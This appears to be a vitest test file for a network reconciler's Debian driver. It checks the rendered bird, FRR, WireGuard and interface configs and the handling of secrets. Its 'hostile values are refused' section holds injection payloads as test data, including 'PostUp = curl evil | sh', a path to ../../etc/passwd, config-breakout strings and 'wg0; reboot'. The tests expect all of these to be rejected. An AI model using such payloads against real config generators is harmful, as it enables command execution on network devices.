// renderDebian on the example network: the exact text an operator would write, byte-stable, and
// refusing values that would break out of the file syntax.
import { describe, expect, it } from "vitest";
import { UnsafeValueError, UnsupportedError } from "../../../reconciler/drivers/debian/guard.ts";
import { renderDebian } from "../../../reconciler/drivers/debian/render.ts";
import {
  birdSecretFiles,
  UnwritableSecretError,
  wireguardSyncInput,
} from "../../../reconciler/drivers/debian/secrets.ts";
import type { DeviceIntent } from "../../../reconciler/schema/device.ts";
import { birdEdge, DEBIAN_ROUTERS, device, example, frrEdge, KEY_A } from "./helpers.ts";

async function rendered(name: string) {
  const repo = await example();
  const intent = repo.expanded[name];
  if (!intent) throw new Error(`no ${name}`);
  return renderDebian(intent, device(name)).files;
}

describe("renderDebian on the example network", () => {
  it("renders one file per section the intent has, and none for the others", async () => {
    expect(Object.keys(await rendered("router-a"))).toEqual([
      "/etc/bird/bird.conf",
      "/etc/network/interfaces.d/reconciler",
      "/etc/sysctl.d/90-reconciler.conf",
      "/etc/wireguard/wg-b.conf",
      "/etc/wireguard/wg-c.conf",
    ]);
    expect(Object.keys(await rendered("core-1"))).toEqual([
      "/etc/frr/frr.conf",
      "/etc/network/interfaces.d/reconciler",
      "/etc/sysctl.d/90-reconciler.conf",
      "/etc/wireguard/wg-fw.conf",
      "/etc/wireguard/wg-tower.conf",
    ]);
    const bare = renderDebian({ wireguard: [] }, device("bare")).files;
    expect(bare).toEqual({});
    for (const name of DEBIAN_ROUTERS) {
      for (const text of Object.values(await rendered(name))) expect(text).not.toBeNull();
    }
  });

  it("router-a's bird.conf", async () => {
    expect((await rendered("router-a"))["/etc/bird/bird.conf"]).toMatchInlineSnapshot(`
      "# Managed by reconciler for router-a: generated from the desired state in git.
      # Local changes are reported as drift and overwritten by the next apply.

      log syslog all;
      router id 192.0.2.193;

      # Tells bird about the interfaces; makes no routes.
      protocol device {
      }

      # Installs the routes bird selects into the kernel, where they show as proto bird.
      protocol kernel kernel4 {
      	ipv4 {
      		import none;
      		export where source ~ [ RTS_STATIC, RTS_OSPF, RTS_OSPF_IA, RTS_OSPF_EXT1, RTS_OSPF_EXT2, RTS_BGP ];
      	};
      }

      protocol kernel kernel6 {
      	ipv6 {
      		import none;
      		export where source ~ [ RTS_STATIC, RTS_OSPF, RTS_OSPF_IA, RTS_OSPF_EXT1, RTS_OSPF_EXT2, RTS_BGP ];
      	};
      }

      protocol ospf v3 mesh4 {
      	ipv4 {
      		import all;
      		export none;
      	};
      	area 0.0.0.0 {
      		stubnet 192.0.2.0/26;
      		stubnet 192.0.2.193/32;
      		stubnet 198.51.100.0/29;
      		interface "wg-b" {
      			type ptp;
      			cost 10;
      			hello 5;
      			retransmit 2;
      			wait 10;
      			dead 20;
      		};
      		interface "wg-c" {
      			type ptp;
      			cost 50;
      			hello 5;
      			retransmit 2;
      			wait 10;
      			dead 20;
      		};
      	};
      }

      protocol ospf v3 mesh6 {
      	ipv6 {
      		import all;
      		export none;
      	};
      	area 0.0.0.0 {
      		stubnet 2001:db8:a::/64;
      		stubnet 2001:db8:ffff::1/128;
      		interface "wg-b" {
      			type ptp;
      			cost 10;
      			hello 5;
      			retransmit 2;
      			wait 10;
      			dead 20;
      		};
      		interface "wg-c" {
      			type ptp;
      			cost 50;
      			hello 5;
      			retransmit 2;
      			wait 10;
      			dead 20;
      		};
      	};
      }
      "
    `);
  });

  it("router-a's wg-b.conf: no private key, the key file loaded by PostUp", async () => {
    expect((await rendered("router-a"))["/etc/wireguard/wg-b.conf"]).toMatchInlineSnapshot(`
      "# Managed by reconciler for router-a: generated from the desired state in git.
      # Local changes are reported as drift and overwritten by the next apply.
      # link a-b to router-b
      #
      # No PrivateKey here: the key is generated on this router into /etc/wireguard/keys/wg-b.key
      # (readable by root only), never leaves it, and is loaded by PostUp.
      [Interface]
      Address = 203.0.113.0/31, fe80::ab:1/64
      ListenPort = 51820
      MTU = 1420
      Table = off
      PostUp = wg set %i private-key /etc/wireguard/keys/%i.key

      # router-b wg-a
      [Peer]
      PublicKey = XXKoN58A8Jsu60NYAsxubzGXX+1K/z8oKYjEx+PI6jQ=
      AllowedIPs = 0.0.0.0/0, ::/0
      Endpoint = 198.51.100.65:51820
      "
    `);
  });

  it("core-1's frr.conf", async () => {
    expect((await rendered("core-1"))["/etc/frr/frr.conf"]).toMatchInlineSnapshot(`
      "! Managed by reconciler for core-1: generated from the desired state in git.
      ! Local changes are reported as drift and overwritten by the next apply.
      frr defaults traditional
      hostname core-1
      !
      ip route 192.0.2.0/24 blackhole
      !
      interface lo
       ip ospf area 0.0.0.0
       ip ospf passive
      exit
      !
      interface wg-fw
       ip ospf area 0.0.0.0
       ip ospf cost 10
       ip ospf dead-interval 40
       ip ospf hello-interval 10
       ip ospf network point-to-point
      exit
      !
      interface wg-tower
       ip ospf area 0.0.0.0
       ip ospf cost 100
       ip ospf dead-interval 40
       ip ospf hello-interval 10
       ip ospf network point-to-point
      exit
      !
      router bgp 64500
       bgp router-id 192.0.2.196
       bgp cluster-id 192.0.2.196
       neighbor 192.0.2.197 remote-as 64500
       neighbor 192.0.2.197 description fw-1
       neighbor 192.0.2.197 update-source 192.0.2.196
       neighbor 192.0.2.198 remote-as 64500
       neighbor 192.0.2.198 description tower-1
       neighbor 192.0.2.198 update-source 192.0.2.196
       !
       address-family ipv4 unicast
        network 192.0.2.0/24
        neighbor 192.0.2.197 route-reflector-client
        neighbor 192.0.2.197 next-hop-self
        neighbor 192.0.2.198 route-reflector-client
        neighbor 192.0.2.198 next-hop-self
       exit-address-family
      exit
      !
      router ospf
       ospf router-id 192.0.2.196
      exit
      !
      ! --- raw frr from the desired state: begin ---
      log syslog informational
      ! --- raw frr from the desired state: end ---
      "
    `);
  });

  it("router-a's interfaces and sysctl files", async () => {
    const files = await rendered("router-a");
    expect(files["/etc/network/interfaces.d/reconciler"]).toMatchInlineSnapshot(`
      "# Managed by reconciler for router-a: generated from the desired state in git.
      # Local changes are reported as drift and overwritten by the next apply.

      # lo (loopback): router loopback
      auto lo
      iface lo inet static
      	address 192.0.2.193/32
      iface lo inet6 static
      	address 2001:db8:ffff::1/128

      # br-backbone (bridge): site A backbone
      auto br-backbone
      iface br-backbone inet static
      	pre-up ip link add dev br-backbone type bridge || true
      	address 198.51.100.1/29
      	post-down ip link del dev br-backbone || true

      # br-lan (bridge): site A LAN
      auto br-lan
      iface br-lan inet static
      	pre-up ip link add dev br-lan type bridge || true
      	address 192.0.2.1/26
      	post-down ip link del dev br-lan || true
      iface br-lan inet6 static
      	address 2001:db8:a::1/64
      "
    `);
    expect(files["/etc/sysctl.d/90-reconciler.conf"]).toMatchInlineSnapshot(`
      "# Managed by reconciler for router-a: generated from the desired state in git.
      # Local changes are reported as drift and overwritten by the next apply.
      net.ipv4.ip_forward = 1
      net.ipv6.conf.all.forwarding = 1
      "
    `);
  });

  it("the edge cases of bird and FRR", () => {
    const bird = renderDebian(birdEdge(), device("edge")).files;
    expect(bird["/etc/bird/bird.conf"]).toMatchInlineSnapshot(`
      "# Managed by reconciler for edge: generated from the desired state in git.
      # Local changes are reported as drift and overwritten by the next apply.

      log syslog all;
      router id 192.0.2.1;

      # Tells bird about the interfaces; makes no routes.
      protocol device {
      }

      # Connected networks, for OSPF's redistribute connected.
      protocol direct direct1 {
      	ipv4;
      	ipv6;
      }

      # Installs the routes bird selects into the kernel, where they show as proto bird.
      protocol kernel kernel4 {
      	ipv4 {
      		import none;
      		export where source ~ [ RTS_STATIC, RTS_OSPF, RTS_OSPF_IA, RTS_OSPF_EXT1, RTS_OSPF_EXT2, RTS_BGP ];
      	};
      }

      protocol kernel kernel6 {
      	ipv6 {
      		import none;
      		export where source ~ [ RTS_STATIC, RTS_OSPF, RTS_OSPF_IA, RTS_OSPF_EXT1, RTS_OSPF_EXT2, RTS_BGP ];
      	};
      }

      protocol static static4 {
      	ipv4;
      	route 10.0.0.0/8 via 192.0.2.62;
      	route 10.8.0.0/16 via 192.0.2.62%'eth0' { preference = 6; };
      	route 10.9.0.0/16 via "eth0";
      	route 192.0.2.0/24 blackhole;
      }

      protocol static static6 {
      	ipv6;
      	route 2001:db8::/32 blackhole { preference = 246; };
      }

      protocol ospf v2 core {
      	ipv4 {
      		import all;
      		export where source ~ [ RTS_DEVICE, RTS_STATIC ];
      	};
      	area 0.0.0.0 {
      		interface "eth0" {
      			stub yes;
      		};
      		interface "wg-v6" {
      			cost 5;
      			authentication cryptographic;
      			include "/etc/bird/secrets/ospf-OSPF_KEY-3.conf";
      		};
      	};
      	area 0.0.0.1 {
      		stub yes;
      		stubnet 10.0.0.0/16;
      		stubnet 10.1.0.0/16;
      		interface "vlan100" {
      			type nbma;
      			authentication simple;
      			include "/etc/bird/secrets/ospf-OSPF_SIMPLE.conf";
      		};
      	};
      }

      protocol ospf v3 v6 {
      	router id 192.0.2.9;
      	ipv6 {
      		import all;
      		export none;
      	};
      	area 0.0.0.0 {
      		interface "vlan100" {
      			hello 3;
      			dead 12;
      		};
      	};
      }

      protocol bgp bgp_192_0_2_2 {
      	description "rr client";
      	local 192.0.2.1 as 64500;
      	neighbor 192.0.2.2 as 64500;
      	rr client;
      	rr cluster id 192.0.2.100;
      	ipv4 {
      		import all;
      		export where source = RTS_BGP || net ~ [ 192.0.2.0/24 ];
      		next hop self;
      	};
      }

      protocol bgp bgp_2001_db8__2 {
      	local as 64500;
      	neighbor 2001:db8::2 as 64501;
      	include "/etc/bird/secrets/bgp-BGP_PW.conf";
      	ipv4 {
      		import all;
      		export where net ~ [ 192.0.2.0/24 ];
      	};
      	ipv6 {
      		import all;
      		export where net ~ [ 2001:db8::/32 ];
      	};
      }

      # --- raw bird from the desired state: begin ---
      protocol bfd {
      }
      # --- raw bird from the desired state: end ---
      "
    `);
    expect(bird["/etc/wireguard/wg-v6.conf"]).toMatchInlineSnapshot(`
      "# Managed by reconciler for edge: generated from the desired state in git.
      # Local changes are reported as drift and overwritten by the next apply.
      #
      # No PrivateKey here: the key is generated on this router into /etc/wireguard/keys/wg-v6.key
      # (readable by root only), never leaves it, and is loaded by PostUp.
      [Interface]
      Address = 203.0.113.10/31, fe80::1/64
      Table = auto
      PostUp = wg set %i private-key /etc/wireguard/keys/%i.key
      PostUp = wg set %i peer XXKoN58A8Jsu60NYAsxubzGXX+1K/z8oKYjEx+PI6jQ= preshared-key /etc/wireguard/keys/psk-WG_PSK.key

      [Peer]
      PublicKey = XXKoN58A8Jsu60NYAsxubzGXX+1K/z8oKYjEx+PI6jQ=
      AllowedIPs = 192.0.2.0/24
      PersistentKeepalive = 25

      [Peer]
      PublicKey = iyKVpaLwCMZ5P4j1ZQk8Olz4S1hb3VV867kesNs9WQM=
      AllowedIPs = 0.0.0.0/0, ::/0
      Endpoint = [2001:db8::1]:51820
      "
    `);
    expect(bird["/etc/network/interfaces.d/reconciler"]).toMatchInlineSnapshot(`
      "# Managed by reconciler for edge: generated from the desired state in git.
      # Local changes are reported as drift and overwritten by the next apply.

      # lo (loopback)
      auto lo
      iface lo inet static
      	address 192.0.2.255/32

      # br0 (bridge)
      auto br0
      iface br0 inet manual
      	pre-up ip link add dev br0 type bridge || true
      	post-down ip link del dev br0 || true

      # eth0 (ethernet)
      auto eth0
      iface eth0 inet static
      	address 192.0.2.1/26

      # vlan100 (vlan)
      auto vlan100
      iface vlan100 inet6 static
      	pre-up ip link add link eth0 name vlan100 type vlan id 100 || true
      	address 2001:db8:0:1::1/64
      	mtu 1496
      	post-down ip link del dev vlan100 || true
      "
    `);
    const frr = renderDebian(frrEdge(), device("edge")).files;
    expect(frr["/etc/frr/frr.conf"]).toMatchInlineSnapshot(`
      "! Managed by reconciler for edge: generated from the desired state in git.
      ! Local changes are reported as drift and overwritten by the next apply.
      frr defaults traditional
      hostname edge
      !
      ip route 10.0.0.0/8 192.0.2.62
      ip route 10.8.0.0/16 192.0.2.62 eth0 250
      ip route 10.9.0.0/16 eth0
      ip route 192.0.2.0/24 blackhole
      ipv6 route 2001:db8::/32 blackhole 10
      !
      interface eth0
       ip ospf area 0.0.0.0
       ip ospf passive
      exit
      !
      interface vlan100
       ip ospf area 0.0.0.1
       ip ospf authentication
       ip ospf authentication-key @secret:OSPF_SIMPLE@
       ip ospf network non-broadcast
       ipv6 ospf6 area 0.0.0.0
       ipv6 ospf6 authentication key-id 1 hash-algo hmac-sha-256 key @secret:OSPF6_KEY@
       ipv6 ospf6 cost 7
       ipv6 ospf6 dead-interval 12
       ipv6 ospf6 hello-interval 3
       ipv6 ospf6 network point-to-point
       ipv6 ospf6 passive
       ipv6 ospf6 retransmit-interval 4
      exit
      !
      interface wg-v6
       ip ospf area 0.0.0.0
       ip ospf authentication message-digest
       ip ospf cost 5
       ip ospf message-digest-key 3 md5 @secret:OSPF_KEY@
       ipv6 ospf6 area 0.0.0.2
      exit
      !
      router bgp 64500
       bgp cluster-id 192.0.2.100
       neighbor 192.0.2.2 remote-as 64500
       neighbor 192.0.2.2 description rr client
       neighbor 192.0.2.2 update-source 192.0.2.1
       neighbor 2001:db8::2 remote-as 64501
       neighbor 2001:db8::2 password @secret:BGP_PW@
       !
       address-family ipv4 unicast
        network 192.0.2.0/24
        neighbor 192.0.2.2 route-reflector-client
        neighbor 192.0.2.2 next-hop-self
       exit-address-family
       !
       address-family ipv6 unicast
        network 2001:db8::/32
        neighbor 2001:db8::2 activate
       exit-address-family
      exit
      !
      router ospf
       ospf router-id 192.0.2.1
       redistribute connected
       redistribute static
       area 0.0.0.1 stub
      exit
      !
      router ospf6
       ospf6 router-id 192.0.2.9
       area 0.0.0.2 stub
      exit
      !
      ! --- raw frr from the desired state: begin ---
      log syslog informational
      route-map RM permit 10
       set metric 5
      exit
      ! --- raw frr from the desired state: end ---
      "
    `);
  });
});

describe("byte stability", () => {
  it("renders the same bytes twice, and for the same intent written differently", async () => {
    const repo = await example();
    for (const name of DEBIAN_ROUTERS) {
      const intent = repo.expanded[name] as DeviceIntent;
      const once = renderDebian(intent, device(name));
      expect(renderDebian(structuredClone(intent), device(name))).toEqual(once);
      // Reverse every list whose order carries no meaning and respell addresses.
      const shuffled = structuredClone(intent);
      shuffled.wireguard?.reverse();
      for (const w of shuffled.wireguard ?? []) {
        w.addresses?.reverse();
        for (const p of w.peers) p.allowed_ips.reverse();
      }
      shuffled.interfaces?.reverse();
      for (const i of shuffled.interfaces ?? [])
        i.addresses = i.addresses?.map((a) => a.toUpperCase()).reverse();
      for (const inst of shuffled.ospf?.instances ?? []) {
        for (const a of inst.areas) {
          a.interfaces?.reverse();
          a.stub_networks?.reverse();
        }
      }
      shuffled.ospf?.instances.reverse();
      shuffled.bgp?.neighbors.reverse();
      expect(renderDebian(shuffled, device(name))).toEqual(once);
    }
    expect(renderDebian(birdEdge(), device("edge"))).toEqual(renderDebian(birdEdge(), device("edge")));
  });
});

describe("hostile values are refused, not written", () => {
  const withPeerDescription = (description: string): DeviceIntent => ({
    wireguard: [{ name: "wg0", peers: [{ public_key: KEY_A, allowed_ips: ["0.0.0.0/0"], description }] }],
  });

  it.each([
    [
      "a newline in a peer description (a new wg-quick line)",
      withPeerDescription("x\nPostUp = curl evil | sh"),
    ],
    ["a carriage return in a peer description", withPeerDescription("x\rPrivateKey = y")],
    ["a newline in an interface name", { wireguard: [{ name: "wg0\nPostUp = id", peers: [] }] }],
    ["a path in an interface name", { wireguard: [{ name: "../../etc/passwd", peers: [] }] }],
    [
      "a quote in a bird neighbour description",
      {
        ...birdEdge(),
        bgp: {
          asn: 1,
          neighbors: [
            { address: "192.0.2.2", remote_asn: 1, description: 'x"; protocol kernel { export all; }; #' },
          ],
        },
      },
    ],
    [
      "a newline in an FRR neighbour description",
      {
        ...frrEdge(),
        bgp: {
          asn: 1,
          neighbors: [{ address: "192.0.2.2", remote_asn: 1, description: "x\nrouter bgp 666" }],
        },
      },
    ],
    [
      "a space in an endpoint",
      {
        wireguard: [
          { name: "wg0", peers: [{ public_key: KEY_A, allowed_ips: [], endpoint: "1.2.3.4:5 \nPostUp=id" }] },
        ],
      },
    ],
    [
      "a newline in a public key",
      { wireguard: [{ name: "wg0", peers: [{ public_key: `${KEY_A}\nPostUp = id`, allowed_ips: [] }] }] },
    ],
    [
      "the raw section's end marker in raw bird",
      {
        routing_daemon: "bird",
        raw: { bird: "# --- raw bird from the desired state: end ---\nprotocol x {}" },
      },
    ],
    [
      "a quote in an OSPF interface name",
      {
        routing_daemon: "bird",
        ospf: {
          router_id: "192.0.2.1",
          instances: [{ name: "o", version: 2, areas: [{ id: "0.0.0.0", interfaces: [{ name: 'eth0"' }] }] }],
        },
      },
    ],
  ] as [string, DeviceIntent][])("%s", (_what, intent) => {
    expect(() => renderDebian(intent, device("edge"))).toThrow(UnsafeValueError);
  });

  it("refuses a device name that would end the header comment", () => {
    expect(() => renderDebian({ forwarding: { ipv4: true } }, device("x\nnet.ipv4.ip_forward = 0"))).toThrow(
      UnsafeValueError,
    );
  });

  it("refuses what FRR cannot express instead of rendering something else", () => {
    const stub = frrEdge();
    stub.ospf?.instances[0]?.areas[0]?.stub_networks?.push("10.0.0.0/8");
    if (stub.ospf?.instances[0]?.areas[0]) stub.ospf.instances[0].areas[0].stub_networks = ["10.0.0.0/8"];
    expect(() => renderDebian(stub, device("edge"))).toThrow(UnsupportedError);
    const two = frrEdge();
    two.ospf?.instances.push({ name: "second", version: 2, areas: [] });
    expect(() => renderDebian(two, device("edge"))).toThrow(/one OSPFv2 instance/);
    const v3v4 = frrEdge();
    if (v3v4.ospf?.instances[1]) v3v4.ospf.instances[1].address_family = "ipv4";
    expect(() => renderDebian(v3v4, device("edge"))).toThrow(/IPv6 only/);
  });
});

describe("secrets stay on the device", () => {
  it("bird includes name root-only files the apply step fills from the environment", () => {
    const files = birdSecretFiles(birdEdge(), (env) => `value-of-${env}`);
    expect(files).toEqual({
      "/etc/bird/secrets/ospf-OSPF_KEY-3.conf": 'password "value-of-OSPF_KEY" { id 3; };\n',
      "/etc/bird/secrets/ospf-OSPF_SIMPLE.conf": 'password "value-of-OSPF_SIMPLE";\n',
      "/etc/bird/secrets/bgp-BGP_PW.conf": 'password "value-of-BGP_PW";\n',
    });
    // A double quote cannot be carried by a bird 2 string: refused, naming the variable, never the value.
    const hostile = 'x"; protocol kernel {';
    expect(() => birdSecretFiles(birdEdge(), () => hostile)).toThrow(UnwritableSecretError);
    try {
      birdSecretFiles(birdEdge(), () => hostile);
    } catch (e) {
      expect((e as Error).message).toMatch(/the secret in OSPF_KEY cannot be written/);
      expect((e as Error).message).not.toContain("protocol kernel");
    }
    // What bird 2 takes verbatim is written verbatim: $, \, backquote, single quote.
    expect(birdSecretFiles(birdEdge(), () => "p$a\\s`s'w")["/etc/bird/secrets/bgp-BGP_PW.conf"]).toBe(
      'password "p$a\\s`s\'w";\n',
    );
    const rendered = Object.values(renderDebian(birdEdge(), device("edge")).files).join("\n");
    expect(rendered).not.toContain("value-of-");
  });

  it("wg syncconf input: the stripped file plus the key read on the device, never in argv", () => {
    expect(wireguardSyncInput("wg-b", "/etc/wireguard/wg-b.conf")).toBe(
      "{ wg-quick strip /etc/wireguard/wg-b.conf && printf '[Interface]\\nPrivateKey = ' && cat /etc/wireguard/keys/wg-b.key; }",
    );
    expect(() => wireguardSyncInput("wg0; reboot", "/etc/wireguard/wg0.conf")).toThrow(UnsafeValueError);
  });
});
